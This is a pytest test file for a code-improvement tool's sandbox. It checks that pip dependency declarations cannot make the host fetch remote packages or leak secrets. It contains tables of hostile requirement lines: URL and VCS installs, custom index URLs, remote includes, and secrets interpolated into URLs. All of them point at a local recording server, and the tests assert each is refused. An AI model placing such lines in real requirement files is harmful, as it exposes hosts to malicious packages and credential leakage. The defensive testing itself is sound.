"""No file of a candidate (or of the repository) ever executes on the host, or makes it fetch.

The host runs pip for the docker sandbox's image. These tests hold it to: the declarations come
from the run's base commit only (never a candidate's tree or the run's worktree), every line
passes the policy of `deps.requirement_entry`, and pip gets no secret of the host.

A local HTTP server on 127.0.0.1 records every request: the hostile declarations all point at
it, so "no request" is observed, not assumed. A secret set in the environment must appear in no
output, history, ref or note.
"""

from __future__ import annotations

import json
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from selfcode.cli.app import app
from selfcode.errors import ConfigError
from selfcode.git.store import GitStore
from selfcode.sandbox.deps import dependencies_from_files, pip_environment
from selfcode.sandbox.requirements import Include, Refused, logical_lines, requirement_entry

from recording_server import Request, recording_server
from repos import GIT_ENV_ARGS
from run_helpers import EVENS_LOOP, SQUARES_FAST, SQUARES_LOOP, TARGET, edit, write_replay

pytest_plugins = ["docker_util"]

SECRET_NAME = "SELFCODE_TEST_API_KEY"
SECRET = "sk-host-safety-0123456789abcdef"
REPO_ROOT = Path(__file__).resolve().parents[1]

# --- the line policy, as a table ------------------------------------------------------------

ACCEPTED = [
    ("pytest>=8", "pytest>=8"),
    ("numpy==1.26.4  # pinned", "numpy==1.26.4"),
    ("pkg[extra] >= 1 ; python_version >= '3.8'", 'pkg[extra]>=1; python_version >= "3.8"'),
    ("attrs==23.2.0 --hash=sha256:abc --hash sha256:def", "attrs==23.2.0"),
    ("   ", None),
    ("# a comment", None),
    ("-r base.txt", Include("base.txt", constraint=False)),
    ("-rbase.txt", Include("base.txt", constraint=False)),
    ("--requirement=sub/dev.txt", Include("sub/dev.txt", constraint=False)),
    ("-c constraints.txt", Include("constraints.txt", constraint=True)),
    ("--constraint ../constraints.txt", Include("constraints.txt", constraint=True)),
]

REFUSED = [
    ("pkg @ http://127.0.0.1:9/pkg.tar.gz", "names a URL"),
    ("pkg@file:///tmp/pkg", "names a URL"),
    ("git+https://127.0.0.1:9/x.git#egg=x", "names a URL"),
    ("https://127.0.0.1:9/pkg-1.0-py3-none-any.whl", "names a URL"),
    ("./vendored/pkg", "local path"),
    ("/opt/wheels/pkg-1.0-py3-none-any.whl", "local path"),
    ("pkg-1.0.tar.gz", "local path"),
    ("-e .", r"option line \(-e\)"),
    ("--editable=git+https://127.0.0.1:9/x", r"option line \(--editable\)"),
    ("--index-url http://127.0.0.1:9/simple", r"option line \(--index-url\)"),
    ("-i http://127.0.0.1:9/simple", r"option line \(-i\)"),
    ("--extra-index-url=http://127.0.0.1:9/", r"option line \(--extra-index-url\)"),
    ("-f http://127.0.0.1:9/", r"option line \(-f\)"),
    ("--find-links ./wheels", r"option line \(--find-links\)"),
    ("--trusted-host 127.0.0.1", r"option line \(--trusted-host\)"),
    ("--no-binary :all:", r"option line \(--no-binary\)"),
    ("-r ../../outside.txt", "outside the repository"),
    ("-c /etc/constraints.txt", "outside the repository"),
    ("-r http://127.0.0.1:9/r.txt", "outside the repository"),
    ("-r", "includes no file"),
    ("pkg==${SELFCODE_TEST_API_KEY}", "environment variable"),
    ("pkg @ https://user:${TOKEN}@127.0.0.1:9/x.whl", "environment variable"),
    ("numpy --config-settings=x=y", "option --config-settings"),
    ("not a requirement", "not a requirement"),
]


@pytest.mark.parametrize(("line", "expected"), ACCEPTED, ids=[a for a, _ in ACCEPTED])
def test_the_policy_keeps_plain_requirements_and_includes(line: str, expected: object) -> None:
    assert requirement_entry(line, "requirements.txt line 1", "sub/requirements.txt" if
                             "../" in line else "requirements.txt") == expected


@pytest.mark.parametrize(("line", "why"), REFUSED, ids=[a for a, _ in REFUSED])
def test_the_policy_refuses_what_would_make_the_host_fetch_or_build(line: str, why: str) -> None:
    with pytest.raises(Refused, match=why) as caught:
        requirement_entry(line, "requirements-dev.txt line 7", "requirements-dev.txt")
    message = str(caught.value)
    # One sentence that names the file, the line and the text.
    assert "requirements-dev.txt line 7" in message and repr(line.strip()) in message
    assert "\n" not in message and message.endswith(".")
    assert isinstance(caught.value, ConfigError) and caught.value.exit_code == 2


def test_logical_lines_join_continuations_and_keep_the_first_line_number() -> None:
    text = "a\n\nb \\\n  >=1\n# c\nd \\\n"
    assert list(logical_lines(text)) == [(1, "a"), (2, ""), (3, "b    >=1"), (5, "# c"),
                                         (6, "d  ")]


def test_collection_follows_committed_includes_and_names_the_line_it_refuses() -> None:
    files = {
        "pyproject.toml": '[project]\nname = "demo"\ndependencies = ["attrs>=23"]\n'
                          '[project.optional-dependencies]\ntest = ["demo[extra]", "hypothesis"]\n',
        "requirements.txt": "-r reqs/base.txt\n-c constraints.txt\n",
        "reqs/base.txt": "rich\n",
        "constraints.txt": "rich<14\n",
        "docs/requirements-docs.txt": "-e .\n",  # not top-level: not a declaration of the tests
    }
    deps = dependencies_from_files(files, "commit abc")
    # The self-reference is dropped, the default build backend (no [build-system]) and
    # pytest always added.
    assert deps.requirements == ("attrs>=23", "hypothesis", "setuptools>=40.8.0", "wheel",
                                 "rich", "pytest")
    assert deps.constraints == ("rich<14",)
    with pytest.raises(Refused, match=r"reqs/base\.txt line 2 \(commit abc\)"):
        dependencies_from_files({**files, "reqs/base.txt": "rich\n--index-url http://x/\n"},
                                "commit abc")
    with pytest.raises(ConfigError, match=r"includes reqs/missing\.txt, which is not committed"):
        dependencies_from_files({"requirements.txt": "-r reqs/missing.txt\n"})
    with pytest.raises(Refused, match=r"pyproject\.toml \[project\] dependencies"):
        dependencies_from_files({"pyproject.toml": '[project]\nname = "d"\n'
                                 'dependencies = ["x @ http://127.0.0.1:9/x.tar.gz"]\n'})


def test_pip_gets_no_secret_no_pip_setting_and_no_proxy_credential(tmp_path: Path) -> None:
    caller = {
        "PATH": "/usr/bin:/bin", "OPENAI_API_KEY": SECRET, "GITHUB_TOKEN": SECRET,
        "AWS_SECRET_ACCESS_KEY": SECRET, "PIP_INDEX_URL": "http://127.0.0.1:9/simple",
        "PIP_EXTRA_INDEX_URL": "http://127.0.0.1:9/", "PIP_FIND_LINKS": "/opt/wheels",
        "PIP_CONFIG_FILE": "/home/u/.pip.conf", "PYTHONPATH": "/home/u/evil",
        "HTTPS_PROXY": f"http://user:{SECRET}@proxy:3128", "HTTP_PROXY": "http://proxy:3128",
        "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt", "HOME": "/home/u",
    }
    env = pip_environment(tmp_path, caller)
    assert env == {
        "PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8",
        "PIP_CONFIG_FILE": "/dev/null", "HTTP_PROXY": "http://proxy:3128",
        "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
    }
    assert SECRET not in json.dumps(env)


# --- end to end: a local server that records every request ----------------------------------


@pytest.fixture
def server() -> Iterator[tuple[str, list[Request]]]:
    """http://127.0.0.1:PORT, and the list of every request it got ("GET /path")."""
    with recording_server() as found:
        yield found


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The secret in the environment; nothing of the machine's git or selfcode configuration."""
    monkeypatch.setenv(SECRET_NAME, SECRET)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "no-global-gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("SELFCODE_HOME", str(tmp_path / "selfcode-home"))
    for var in ("SELFCODE_IMAGE", "SELFCODE_GIT_AUTHOR", "SELFCODE_GIT_HOOKS", "GIT_DIR",
                "GIT_WORK_TREE", "GIT_INDEX_FILE"):
        monkeypatch.delenv(var, raising=False)


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *GIT_ENV_ARGS, *args], cwd=repo, check=True,
                          capture_output=True, text=True).stdout


def _target(root: Path, extra: dict[str, str], protected: list[str] | None = None) -> Path:
    """The fastlib target, its pyproject declaring what selfcode's own declares (so the
    session's sandbox image serves it, and no test downloads anything)."""
    own = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text("utf-8"))["project"]
    pyproject = (
        f'[project]\nname = "fastlib"\nversion = "0.1.0"\n'
        f"dependencies = {json.dumps(own['dependencies'])}\n\n"
        f"[project.optional-dependencies]\ntest = {json.dumps(own['optional-dependencies']['test'])}"
        '\n\n[tool.pytest.ini_options]\npythonpath = ["src"]\ntestpaths = ["tests"]\n'
    )
    if protected is not None:
        pyproject += f"\n[tool.selfcode]\nprotected = {json.dumps(protected)}\n"
    root.mkdir(parents=True)
    for path, text in {**TARGET, "pyproject.toml": pyproject, **extra}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "fastlib")
    return root


def _assert_no_trace(repo: Path, output: str, tmp_path: Path) -> None:
    """The secret is in no output, history, ref or note; nothing was downloaded on the host."""
    assert SECRET not in output
    with GitStore(repo) as store:
        state = store.state_dir()
    for path in [p for p in state.rglob("*") if p.is_file()]:
        assert SECRET.encode() not in path.read_bytes(), path
    archive = _git(repo, "log", "--all", "-p", "--notes=*", "--format=%H %B")
    archive += _git(repo, "for-each-ref")
    assert SECRET not in archive
    fetched = [p for p in tmp_path.rglob("*") if p.name.startswith(("evil", "x.tar", "pkg-"))]
    assert not fetched, fetched


HOSTILE_BASELINES = {
    "url-requirement": ("requirements.txt", "pytest\nevil @ {url}/evil-1.0-py3-none-any.whl\n", 2),
    "sdist-url": ("requirements-dev.txt", "evil @ {url}/x.tar.gz\n", 1),
    "index-url": ("requirements.txt", "# index\n--index-url {url}/simple\nevil\n", 2),
    "find-links": ("requirements.txt", "-f {url}/\nevil\n", 1),
    "secret-in-url": ("requirements.txt", "evil @ {url}/${" + SECRET_NAME + "}/e.whl\n", 1),
    "remote-include": ("requirements.txt", "-r {url}/more.txt\n", 1),
    "editable-vcs": ("requirements.txt", "-e git+{url}/evil.git#egg=evil\n", 1),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_BASELINES))
def test_hostile_baseline_declarations_stop_the_run_before_anything_runs(
    case: str, server: tuple[str, list[Request]], clean_env: None, tmp_path: Path
) -> None:
    url, seen = server
    name, text, line = HOSTILE_BASELINES[case]
    repo = _target(tmp_path / "target", {name: text.replace("{url}", url)})
    replay = write_replay(tmp_path / "r.jsonl", "no edit")
    result = CliRunner().invoke(app, ["improve", str(repo), "--replay", str(replay),
                                      "--sandbox", "docker", "--iterations", "1"])
    assert result.exit_code == 2, result.output
    flat = " ".join(result.output.split())
    assert f"{name} line {line}" in flat and "Refusing the dependency declaration" in flat
    assert seen == []
    _assert_no_trace(repo, result.output, tmp_path)


@pytest.mark.parametrize("command", [["eval", "--patch", "{patch}"], ["sandbox", "build"],
                                     ["bench"]])
def test_every_command_that_builds_the_image_refuses_the_same_way(
    command: list[str], server: tuple[str, list[Request]], clean_env: None, tmp_path: Path
) -> None:
    url, seen = server
    repo = _target(tmp_path / "target", {"requirements.txt": f"evil @ {url}/x.tar.gz\n"})
    (tmp_path / "p.diff").write_text("")
    argv = [a.replace("{patch}", str(tmp_path / "p.diff")) for a in command]
    result = CliRunner().invoke(app, [*argv, str(repo)], env={"SELFCODE_SANDBOX": "docker"})
    assert result.exit_code == 2, result.output
    assert "requirements.txt line 1" in " ".join(result.output.split())
    assert seen == []


@pytest.mark.docker
def test_candidates_declarations_are_never_read_by_the_host(
    server: tuple[str, list[Request]], clean_env: None, tmp_path: Path,
    sandbox_image: str, base_image: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Two accepted candidates add hostile requirement files (the dependency files are
    unprotected here, so the gate itself lets them through): the re-checks' fresh sandboxes
    still come from the baseline's declarations, so the host fetches nothing."""
    url, seen = server
    monkeypatch.setenv("SELFCODE_BASE_IMAGE", base_image)
    repo = _target(tmp_path / "target", {}, protected=["tests/**", "benchmarks/**"])
    hostile = (f"evil @ {url}/evil-1.0-py3-none-any.whl\n--index-url {url}/simple\n"
               f"more @ {url}/${{{SECRET_NAME}}}/more.tar.gz\n")
    first = edit("squares(): the closed form.", SQUARES_LOOP, SQUARES_FAST) + edit(
        "Pin the dev tools.", "", hostile, path="requirements-dev.txt")
    second = edit("evens(): count them at once.", EVENS_LOOP,
                  "    return max(0, (n + 1) // 2)\n") + edit(
        "More dev tools.", "", f"-e git+{url}/x.git#egg=x\n", path="requirements.txt")
    replay = write_replay(tmp_path / "r.jsonl", first, second)
    result = CliRunner().invoke(app, ["improve", str(repo), "--replay", str(replay),
                                      "--sandbox", "docker", "--iterations", "2", "--json"])
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert summary["accepted"] == 2, result.output
    branch = f"selfcode/{summary['run_id']}"
    assert "requirements-dev.txt" in _git(repo, "ls-tree", "--name-only", branch)
    assert seen == []
    _assert_no_trace(repo, result.output, tmp_path)
